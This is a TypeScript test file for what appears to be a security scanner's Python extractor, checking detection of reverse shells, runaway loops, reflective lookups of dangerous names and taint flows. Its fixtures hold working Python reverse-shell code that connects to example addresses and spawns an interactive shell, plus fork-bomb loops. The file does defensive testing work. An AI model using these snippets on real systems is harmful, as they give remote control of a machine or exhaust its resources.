// Python extractor: reverse shells, runaway loops, reflective lookups, and hostile inputs that must finish.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { pyFacts } from './test-support.js';

const py = (...lines: string[]): string => `${lines.join('\n')}\n`;

test('reverse shell: connect + dup2 + shell spawn, at the spawn line with the connect line as source', async () => {
  const facts = await pyFacts(py(
    'import socket, subprocess, os',
    's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
    's.connect(("10.0.0.1", 4242))',
    'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)',
    'subprocess.call(["/bin/sh", "-i"])',
  ));
  assert.deepEqual(facts.patterns.map((p) => [p.kind, p.line, p.sourceLine]), [['reverse_shell', 5, 3]]);
});

test('reverse shell: a shell spawned with the socket as stdin needs no dup2', async () => {
  const facts = await pyFacts(py(
    'import socket, subprocess',
    'conn = socket.create_connection(("203.0.113.9", 9001))',
    'subprocess.Popen(["bash", "-i"], stdin=conn.fileno(), stdout=conn.fileno())',
  ));
  assert.deepEqual(facts.patterns.map((p) => [p.kind, p.line, p.sourceLine]), [['reverse_shell', 3, 2]]);
});

test('not a reverse shell: a socket client plus an unrelated git call, or dup2 without a shell', async () => {
  const facts = await pyFacts(py(
    'import socket, subprocess, os',
    's = socket.create_connection(("example.com", 80))',
    'os.dup2(s.fileno(), 1)',
    'subprocess.run(["git", "status"])',
  ));
  assert.deepEqual(facts.patterns, []);
});

test('runaway loops: fork always, spawn/alloc unless throttled, only without an exit', async () => {
  const facts = await pyFacts(py(
    'import os, subprocess, time, itertools, multiprocessing, threading',
    'while True:',
    '    time.sleep(1)',
    '    os.fork()',
    'while 1:',
    '    threading.Thread(target=work).start()',
    'for _ in itertools.count():',
    '    blobs.append("x" * 10_000_000)',
    'while True:',
    '    subprocess.run(["sync"])',
    '    time.sleep(30)',
    'while True:',
    '    p = subprocess.Popen(["job"])',
    '    if p.poll() is None:',
    '        break',
    'while True:',
    '    for i in range(3):',
    '        break',
    '    data += data',
    'while True:',
    '    def handler():',
    '        return 1',
    '    multiprocessing.Process(target=handler).start()',
    'while running:',
    '    os.fork()',
    'while True:',
    '    os.system("x")',
    '    sys.exit(0)',
  ));
  assert.deepEqual(facts.patterns.map((p) => [p.kind, p.line, p.sourceLine]), [
    ['runaway_loop', 4, 2], ['runaway_loop', 6, 5], ['runaway_loop', 8, 7], ['runaway_loop', 19, 16], ['runaway_loop', 23, 20],
  ]);
});

test('reflective lookups: computed names are null, dangerous constants are folded, harmless constants are skipped', async () => {
  const facts = await pyFacts(py(
    'import os',
    'getattr(obj, name)',
    'getattr(os, "exec" + "v")',
    'getattr(obj, "name")',
    'n = "po" + "pen"',
    'getattr(os, n)',
    '__builtins__["eval"]',
    'globals()[key]',
    'vars(obj)["x"]',
  ));
  assert.deepEqual(facts.reflective.map((r) => [r.line, r.name, r.dangerous]), [
    [2, null, false], [3, 'execv', true], [6, 'popen', true], [7, 'eval', true], [8, null, false],
  ]);
});

test('hostile: a 1 MB single-line file finishes and still finds its sink', async () => {
  const code = `import os; ${'x = a + b * c; '.repeat(70_000)}os.system(x)`;
  assert.ok(code.length >= 1_000_000 && !code.includes('\n'));
  const facts = await pyFacts(code);
  assert.deepEqual(facts.calls.map((c) => [c.line, c.op]), [[1, 'system']]);
});

test('hostile: 20,000 nested parentheses, attribute chains and getattr nesting do not throw', async () => {
  const code = py(
    'import os',
    `y = ${'('.repeat(20_000)}os.system(input())${')'.repeat(20_000)}`,
    `z = ${'a.'.repeat(20_000)}b`,
    `w = ${'getattr('.repeat(2_000)}os${', "a")'.repeat(2_000)}`,
    `v = ${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  );
  const facts = await pyFacts(code);
  assert.deepEqual(facts.calls.map((c) => [c.line, c.op, c.taints.map((t) => t.kind)]), [[2, 'system', ['user_input']]]);
});

test('hostile: a 50,000-assignment chain settles, in either order', async () => {
  const forward = ['a0 = input()', ...Array.from({ length: 50_000 }, (_v, i) => `a${i + 1} = a${i}`), 'eval(a50000)'];
  const facts = await pyFacts(py(...forward));
  assert.deepEqual(facts.calls.map((c) => [c.op, c.taints.map((t) => `${t.kind}@${t.line}`)]), [['eval', ['user_input@1']]]);
  const backward = [...Array.from({ length: 50_000 }, (_v, i) => `b${i} = b${i + 1}`), 'b50000 = input()', 'eval(b0)'];
  const back = await pyFacts(py(...backward));
  assert.deepEqual(back.calls.map((c) => [c.op, c.taints.map((t) => `${t.kind}@${t.line}`)]), [['eval', ['user_input@50001']]]);
});

test('hostile: a 50,000-link string concatenation chain folds within its hop budget without overflowing', async () => {
  const chain = ['import os, urllib.request', 'a0 = "sys"', ...Array.from({ length: 50_000 }, (_v, i) => `a${i + 1} = a${i} + "x"`)];
  const facts = await pyFacts(py(...chain, 'getattr(os, a50000)("ls")', 'os.environ.get(a50000)', 'urllib.request.urlopen(a50000)'));
  assert.deepEqual(facts.reflective.map((r) => r.name), [null], 'too deep to fold: a computed name');
  assert.deepEqual(facts.calls.map((c) => [c.op, c.host]), [['network', undefined]]);
});

test('broken code still yields the facts of its good parts', async () => {
  const facts = await pyFacts(py('def f(:', '    pass', 'import os', 'os.system(input())'));
  assert.deepEqual(facts.calls.map((c) => [c.line, c.op, c.taints.map((t) => t.kind)]), [[4, 'system', ['user_input']]]);
});
